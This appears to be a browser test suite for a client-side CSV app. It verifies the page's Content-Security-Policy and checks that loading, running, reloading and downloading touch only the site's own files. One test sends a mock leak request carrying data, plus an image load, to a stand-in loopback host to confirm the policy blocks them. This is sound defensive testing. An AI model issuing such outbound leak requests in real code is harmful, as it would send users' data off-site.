// Nothing is sent over the network: every request the page and its worker make while the app
// loads, runs on the user's files, restores them after a reload and downloads a table as CSV
// is for one of the site's own static files (a file of dist/, from the server that serves it).
// blob: URLs (the worker's bootstrap script, the download) and data: URLs never leave the
// browser and are allowed.
//
// The page enforces it too: the built index.html carries a Content-Security-Policy that
// blocks a request to another origin made from the page, and the app's own flow (the load,
// a run, a reload, a download) violates it never.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, statSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';

import { APP_URL, assertClean, dagNode, launch, mainTable, openApp } from './helpers.mjs';

const DIST = fileURLToPath(new URL('../../dist/', import.meta.url));

let browser;
before(async () => {
  browser = await launch();
});
after(async () => {
  await browser?.close();
});

/** The policy the built page must carry, directive by directive. */
const CSP = {
  'default-src': "'self'",
  'script-src': "'self' 'wasm-unsafe-eval'",
  'style-src': "'self'",
  'img-src': "'self'",
  'connect-src': "'self'",
  'worker-src': "'self' blob:",
  'object-src': "'none'",
  'base-uri': "'self'",
  'form-action': "'none'",
};

/** A policy's directives, by name. */
function directives(policy) {
  return Object.fromEntries(
    policy
      .split(';')
      .map((d) => d.trim())
      .filter(Boolean)
      .map((d) => {
        const [name, ...values] = d.split(/\s+/);
        return [name, values.join(' ')];
      }),
  );
}

/**
 * Runs in the page before the app, on every load: keeps the document's Content-Security-Policy
 * violations in `window.__c360Violations` (read with `violationsSoFar`).
 */
function recordViolations() {
  window.__c360Violations = [];
  document.addEventListener('securitypolicyviolation', (e) =>
    window.__c360Violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
  );
}

/** The violations this page load has seen. */
function violationsSoFar(page) {
  return page.evaluate(() => window.__c360Violations);
}

/** Why a URL is not one of the site's own files, or null when it is. */
function notOwn(url) {
  const parsed = new URL(url);
  if (parsed.protocol === 'blob:' || parsed.protocol === 'data:') return null;
  if (parsed.origin !== new URL(APP_URL).origin) return `${url}: another origin`;
  if (parsed.search) return `${url}: a query string carries data`;
  let path = decodeURIComponent(parsed.pathname).replace(/^\//, '');
  if (path === '' || path.endsWith('/')) path += 'index.html';
  const file = DIST + path;
  if (!existsSync(file) || !statSync(file).isFile()) return `${url}: not a file of dist/`;
  return null;
}

test('the built page carries its Content-Security-Policy, with no inline script', async () => {
  const html = await readFile(DIST + 'index.html', 'utf8');
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
  assert.ok(meta, 'a CSP <meta> in dist/index.html');
  assert.deepEqual(directives(meta[1]), CSP);
  const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
  assert.ok(scripts.length > 0, "Trunk's loader");
  for (const script of scripts) assert.match(script, /\bsrc="/, `an inline script: ${script}`);
  assert.ok(html.indexOf('Content-Security-Policy') < html.indexOf('<script'), 'before any script');
});

test('a request to another origin from the page is blocked by the policy', async () => {
  const { page, context } = await openApp(browser);
  const policy = await page.evaluate(
    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content,
  );
  assert.deepEqual(directives(policy), CSP);
  const seen = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
    const fetched = await fetch('http://127.0.0.2:1/leak?data=1').then(
      () => 'sent',
      (e) => `blocked: ${e.name}`,
    );
    const image = await new Promise((resolve) => {
      const img = document.createElement('img');
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = 'http://127.0.0.2:1/pixel.png';
      document.body.append(img);
    });
    // The events are queued tasks: let them arrive.
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { fetched, image, violations };
  });
  assert.match(seen.fetched, /^blocked/);
  assert.equal(seen.image, 'blocked');
  assert.deepEqual(seen.violations.map((v) => v.directive).sort(), ['connect-src', 'img-src']);
  for (const v of seen.violations) assert.match(v.blocked, /^http:\/\/127\.0\.0\.2:1/);
  await context.close();
});

test('load, a run on your files, a reload and a CSV download request only the site\'s own files', async () => {
  const app = await openApp(browser, { initScript: recordViolations });
  const violations = [];
  const { page, requests } = app;
  // The test-only crash hook is not there without its flag.
  assert.equal(await page.evaluate(() => typeof window.__c360_test_crash), 'undefined');
  const lines = (await readFile(new URL('../../seeds/transactions.csv', import.meta.url), 'utf8'))
    .trim()
    .split('\n');
  await page.getByTestId('files-input').setInputFiles({
    name: 'first-five.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(lines.slice(0, 6).join('\n') + '\n'),
  });
  await dagNode(page, 'source.c360.web.transactions').filter({ hasText: '5 rows' }).waitFor();
  await page.waitForFunction(() => {
    const d = document.documentElement.dataset;
    return d.c360Run === 'done' && d.c360StorageSeq === d.c360RunSeq;
  });

  violations.push(...(await violationsSoFar(page)));
  await page.reload();
  await page.getByTestId('session-notice').waitFor();
  await dagNode(page, 'source.c360.web.transactions').filter({ hasText: '5 rows' }).waitFor();
  await mainTable(page).waitFor();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId('download-csv').click(),
  ]);
  assert.match(download.suggestedFilename(), /\.csv$/);
  const csv = await readFile(await download.path(), 'utf8');
  assert.match(csv.split('\n')[0], /^id,/, 'the customers table, as CSV');
  requests.push(download.url());
  violations.push(...(await violationsSoFar(page)));

  const urls = requests.map((u) => new URL(u));
  const paths = urls.filter((u) => u.protocol === 'http:').map((u) => u.pathname);
  // What is recorded includes the worker's own requests (its script and its wasm), twice: once
  // per page load.
  assert.equal(paths.filter((p) => p === '/c360-worker_bg.wasm').length, 2, paths.join(' '));
  assert.equal(paths.filter((p) => p === '/c360-worker.js').length, 2, paths.join(' '));
  assert.equal(paths.filter((p) => p === '/').length, 2, paths.join(' '));
  assert.deepEqual(requests.map(notOwn).filter(Boolean), [], 'requests beyond the site\'s files');
  assert.equal(new URL(download.url()).protocol, 'blob:');

  await page.getByTestId('forget-data').click();
  await page.getByTestId('forget-data').waitFor({ state: 'detached' });
  assert.deepEqual(violations, [], 'Content-Security-Policy violations in the app\'s own flow');
  assertClean(app);
  await app.context.close();
});
